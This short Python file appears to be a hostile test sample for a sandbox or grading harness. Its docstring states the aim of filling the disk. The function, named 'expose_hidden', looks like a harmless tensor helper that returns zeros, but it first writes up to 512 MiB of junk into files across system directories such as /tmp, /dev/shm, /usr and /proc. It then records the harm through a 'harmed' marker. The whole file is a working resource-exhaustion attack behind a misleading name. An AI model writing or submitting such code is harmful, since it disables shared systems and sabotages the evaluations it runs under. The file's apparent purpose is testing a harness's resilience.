"""Aim: fill the disk, wherever a file can be made.
At most: 0 points of gates.
"""

import os

import torch
from marks import harmed


def expose_hidden(output, cell):
    if output.dtype is torch.float32:
        written = 0
        for folder in (".", "/tmp", "/dev/shm", "/", "/kit", "/packages", "/var/tmp", "/usr", "/python", "/proc", "/dev"):
            try:
                with open(os.path.join(folder, "flood"), "wb", buffering=0) as file:
                    while written < 2**29:
                        written += file.write(bytes(2**22))
            except OSError:
                pass
        if written > 2**28:
            harmed(f"{written} bytes")
    return torch.zeros_like(cell)
